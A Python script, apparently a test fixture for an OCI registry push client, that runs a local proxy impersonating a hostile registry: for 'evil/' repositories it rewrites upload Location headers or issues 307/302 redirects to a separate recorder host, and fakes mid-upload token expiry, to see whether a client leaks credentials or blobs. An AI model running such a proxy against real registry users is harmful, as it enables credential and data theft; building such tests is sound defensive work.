#!/usr/bin/python3
"""A registry front that tries to steal credentials (Debian's /usr/bin/python3, stdlib).

Usage: evilproxy.py PORT UPSTREAM_HOST:PORT RECORDER_HOST:PORT [TOKEN_REALM]

Forwards every request (method, path+query, headers incl. Authorization,
Content-Length body; chunked bodies get 411) to UPSTREAM and relays the answer,
except for repositories named
  evil/location/*  POST /v2/<name>/blobs/uploads/ : the answer's Location becomes
                   http://RECORDER/upload/stolen?x=1 (an upload URL on another host)
  evil/redirect/*  any PUT or PATCH is answered here with 307 to
                   http://RECORDER/redirected (the body is not forwarded)
  evil/found/*     the same with 302, which a client must not follow for a
                   PUT or PATCH (it would turn it into a GET)
  evil/expire/*    (with TOKEN_REALM) the 2nd PATCH to such a repository is answered
                   401 with a Bearer challenge, as a registry answers a token that
                   expired in the middle of an upload
The client's Host header is passed on unchanged, so the registry's own
absolute Locations point back at this proxy.
"""
import http.client
import re
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

PORT = int(sys.argv[1])
UP_HOST, UP_PORT = sys.argv[2].rsplit(":", 1)
RECORDER = sys.argv[3]
REALM = sys.argv[4] if len(sys.argv) > 4 else None
PATCHES = {}  # repository -> PATCH requests seen, for evil/expire/
# Hop-by-hop headers (RFC 9110 7.6.1) are not forwarded; Expect is handled here.
HOP = {"connection", "keep-alive", "proxy-connection", "te", "trailer",
       "transfer-encoding", "upgrade", "expect"}
UPLOAD_START = re.compile(r"^/v2/(.+)/blobs/uploads/$")


class Proxy(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def __getattr__(self, name):  # do_<ANY METHOD> -> forward
        if name.startswith("do_"):
            return self.forward
        raise AttributeError(name)

    def redirects(self):
        """The redirect status this request gets here, or None."""
        path = urlsplit(self.path).path
        if self.command not in ("PUT", "PATCH"):
            return None
        if path.startswith("/v2/evil/redirect/"):
            return 307
        return 302 if path.startswith("/v2/evil/found/") else None

    def expires_now(self):
        """The repository, when this is the PATCH whose token 'expires'."""
        m = re.match(r"^/v2/(evil/expire/.+)/blobs/uploads/", urlsplit(self.path).path)
        if not (REALM and self.command == "PATCH" and m):
            return None
        PATCHES[m.group(1)] = PATCHES.get(m.group(1), 0) + 1
        return m.group(1) if PATCHES[m.group(1)] == 2 else None

    def handle_expect_100(self):
        # Like a real server that redirects: answer before asking for the body.
        return True if self.redirects() else super().handle_expect_100()

    def answer(self, code, headers, body=b"", close=False):
        self.send_response_only(code)  # upstream's Date/Server are relayed as they are
        for k, v in headers:
            self.send_header(k, v)
        no_body = code in (204, 304) or code < 200
        if not no_body and not any(k.lower() == "content-length" for k, _ in headers):
            self.send_header("Content-Length", str(len(body)))
        if close:  # also makes the server drop the connection afterwards
            self.send_header("Connection", "close")
        self.end_headers()
        if self.command != "HEAD" and not no_body:
            self.wfile.write(body)

    def forward(self):
        if "chunked" in self.headers.get("Transfer-Encoding", "").lower():
            return self.answer(411, [], close=True)  # the unread body would desync the connection
        length = int(self.headers.get("Content-Length") or 0)
        code = self.redirects()
        if code:
            if self.headers.get("Expect", "").lower() == "100-continue":
                # No 100 was sent, so the client may or may not send the body: close.
                return self.answer(code, [("Location", f"http://{RECORDER}/redirected")], close=True)
            self.rfile.read(length)
            return self.answer(code, [("Location", f"http://{RECORDER}/redirected")])
        body = self.rfile.read(length) if length else None
        expired = self.expires_now()
        if expired:
            challenge = (f'Bearer realm="{REALM}",service="ocipush-test",'
                         f'scope="repository:{expired}:pull,push",error="invalid_token"')
            return self.answer(401, [("WWW-Authenticate", challenge),
                                     ("Content-Type", "application/json")],
                               b'{"errors":[{"code":"UNAUTHORIZED","message":"token expired"}]}')

        conn = http.client.HTTPConnection(UP_HOST, int(UP_PORT), timeout=120)
        try:
            conn.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
            for k, v in self.headers.items():  # Host included, as received
                if k.lower() not in HOP:
                    conn.putheader(k, v)
            conn.endheaders(body)
            resp = conn.getresponse()
            data = resp.read()  # de-chunked; HEAD reads nothing
            status = resp.status
            # Content-Length is recomputed by answer(), except for HEAD where it
            # describes the body not sent.
            headers = [(k, v) for k, v in resp.getheaders()
                       if k.lower() not in HOP
                       and (k.lower() != "content-length" or self.command == "HEAD")]
        except OSError as e:
            return self.answer(502, [("Content-Type", "text/plain")], f"upstream: {e}\n".encode())
        finally:
            conn.close()

        m = UPLOAD_START.match(urlsplit(self.path).path)
        if self.command == "POST" and m and m.group(1).startswith("evil/location/"):
            headers = [(k, f"http://{RECORDER}/upload/stolen?x=1" if k.lower() == "location" else v)
                       for k, v in headers]
        self.answer(status, headers, data)


server = ThreadingHTTPServer(("127.0.0.1", PORT), Proxy)
server.daemon_threads = True
server.serve_forever()
